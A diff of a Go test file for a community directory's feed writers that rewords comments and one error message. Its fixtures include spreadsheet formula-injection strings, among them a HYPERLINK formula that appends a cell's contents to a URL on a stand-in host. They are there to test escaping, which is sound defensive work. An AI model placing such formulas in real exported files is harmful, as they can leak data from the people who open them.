@@ -19,7 +19,7 @@ import (
 
 var update = flag.Bool("update", false, "rewrite the golden files")
 
-// at is the moment feeds are written in these tests.
+// at is the time at which feeds are written in these tests.
 var at = time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)
 
 func site(t testing.TB) feeds.Site {
@@ -31,7 +31,7 @@ func site(t testing.TB) feeds.Site {
 	return feeds.Site{Name: "Gather", URL: "https://gather.example.org", Words: words}
 }
 
-// full is an activity that uses everything the feeds carry.
+// full is an activity with every field that feeds use.
 func full() directory.Activity {
 	concession, youngest, left := 3.5, 18, 4
 	return directory.Activity{
@@ -73,7 +73,7 @@ func full() directory.Activity {
 	}
 }
 
-// least is an activity that says no more than it must.
+// least is an activity with only the required fields.
 func least() directory.Activity {
 	return directory.Activity{
 		ID: "1e3d6a0c-92b4-4c35-8a27-0d7a3a4f9e11", Group: "0c7f6f0e-8f6c-4a77-9b1a-54a2f4c6b0d2", GroupName: "Northgate Friends",
@@ -82,8 +82,7 @@ func least() directory.Activity {
 	}
 }
 
-// hostileTexts are texts that break writers which do not escape, and
-// spreadsheets.
+// hostileTexts are texts that break spreadsheets, and writers that do not escape.
 func hostileTexts() []string {
 	return []string{
 		`=HYPERLINK("http://example.org/?x="&A1,"Click")`, "+44 161 496 0000", "-2+3", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1",
@@ -92,13 +91,12 @@ func hostileTexts() []string {
 	}
 }
 
-// spoilt are texts that the directory would refuse, and what is left of them.
+// spoilt are texts that the directory would refuse, and what Clean makes of them.
 func spoilt() map[string]string {
 	return map[string]string{"bell\a null\x00": "bell null", "bad \xff\xfe": "bad \uFFFD", "one\r\ntwo\rthree": "one\ntwo\nthree", "\u0085\uFEFFx\uFFFF": "x"}
 }
 
-// numbered is least with a text wherever a group can write one, and an id of
-// its own.
+// numbered is least with a text in every free-text field, and its own id.
 func numbered(n int, text string) directory.Activity {
 	a := full()
 	a.ID = fmt.Sprintf("00000000-0000-4000-8000-%012d", n)
@@ -144,9 +142,9 @@ func golden(t *testing.T, name string, got []byte) {
 	}
 }
 
-// readback asks scripts/readback, which reads feeds with Python's parsers.
-// Where those cannot be installed the test is skipped, except in CI, where it
-// fails. 77 is the script's word for that, 127 that of a machine without Python.
+// readback runs scripts/readback, which reads feeds with Python's parsers. If they
+// cannot be installed (exit code 77) or there is no Python (127), the test is
+// skipped, except in CI, where it fails.
 func readback(t *testing.T, kind string, in []byte, out any) {
 	t.Helper()
 	cmd := exec.Command(filepath.Join("..", "..", "scripts", "readback"), kind)
@@ -162,6 +160,6 @@ func readback(t *testing.T, kind string, in []byte, out any) {
 		t.Fatalf("scripts/readback %s: %v\n%s", kind, err, said.String())
 	}
 	if err := json.Unmarshal(answer, out); err != nil {
-		t.Fatalf("scripts/readback %s answered %q: %v", kind, answer, err)
+		t.Fatalf("scripts/readback %s printed %q: %v", kind, answer, err)
 	}
 }
